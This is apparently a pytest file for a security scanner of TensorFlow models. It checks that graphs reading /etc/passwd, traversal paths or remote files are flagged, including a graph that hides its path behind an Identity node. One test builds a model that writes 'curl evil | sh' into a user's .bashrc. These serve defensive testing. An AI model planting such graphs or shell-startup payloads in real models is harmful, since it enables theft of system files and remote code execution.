"""Operations on files that the graph itself names, told from those on a model's own assets."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.analysis.scanning import findings


def looking_up(tf: Any, vocabulary: Path) -> Any:
    initializer = tf.lookup.TextFileInitializer(
        str(vocabulary), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, -1
    )
    module = tf.Module()
    module.table = tf.lookup.StaticHashTable(initializer, -1)
    module.f = tf.function(module.table.lookup, input_signature=[tf.TensorSpec([None], tf.string)])
    return module


def graph_reading(tf: Any, path: str, out: Path) -> Path:
    """A graph that looks words up in a file, as TensorFlow 1 froze it."""
    v1 = tf.compat.v1
    with tf.Graph().as_default() as graph, v1.Session():
        initializer = v1.lookup.TextFileInitializer(
            path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, -1
        )
        table = v1.lookup.StaticHashTable(initializer, -1)
        table.lookup(v1.placeholder(tf.string, [None]))
    out.write_bytes(graph.as_graph_def().SerializeToString())
    return out


def test_a_vocabulary_that_is_an_asset_is_a_note(tf: Any, tmp_path: Path) -> None:
    (tmp_path / "words.txt").write_text("a\nb\n")
    module = looking_up(tf, tmp_path / "words.txt")
    tf.saved_model.save(module, str(tmp_path / "model"), signatures=module.f)
    assert {(f.severity.value, f.rule) for f in findings(tmp_path / "model")} == {
        ("note", "reads-vocabulary")
    }


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        ("/etc/passwd", "danger"),
        ("../words.txt", "danger"),
        ("gs://somewhere/words.txt", "danger"),
        (r"C:\words.txt", "danger"),
        ("words.txt", "warning"),
    ],
)
def test_a_vocabulary_that_the_graph_names_is_not_an_asset(
    tf: Any, tmp_path: Path, path: str, severity: str
) -> None:
    (found,) = findings(graph_reading(tf, path, tmp_path / "graph.pb"))
    assert (found.severity.value, found.rule) == (severity, "reads-vocabulary")
    assert f"The graph gives it {path}." in found.message


def test_a_vocabulary_at_a_place_that_is_put_together_is_no_asset(tf: Any, tmp_path: Path) -> None:
    graph = tf.compat.v1.GraphDef.FromString(
        graph_reading(tf, "/etc/passwd", tmp_path / "graph.pb").read_bytes()
    )
    reading = next(node for node in graph.node if node.op.startswith("InitializeTable"))
    graph.node.add(name="hidden", op="Identity", input=[reading.input[1]])
    reading.input[1] = "hidden"
    (tmp_path / "graph.pb").write_bytes(graph.SerializeToString())
    (found,) = findings(tmp_path / "graph.pb")
    assert (found.severity.value, found.rule) == ("danger", "reads-vocabulary")


def test_a_finding_tells_the_file_that_the_graph_names(tf: Any, tmp_path: Path) -> None:
    def write() -> Any:
        tf.io.write_file("/home/alice/.bashrc", "curl evil | sh")
        return tf.constant(0)

    module = tf.Module()
    module.f = tf.function(write, input_signature=[])
    tf.saved_model.save(module, str(tmp_path))
    (found, *_) = findings(tmp_path)
    assert (found.severity.value, found.rule) == ("danger", "writes-file")
    assert "The graph gives it /home/alice/.bashrc, curl evil | sh." in found.message
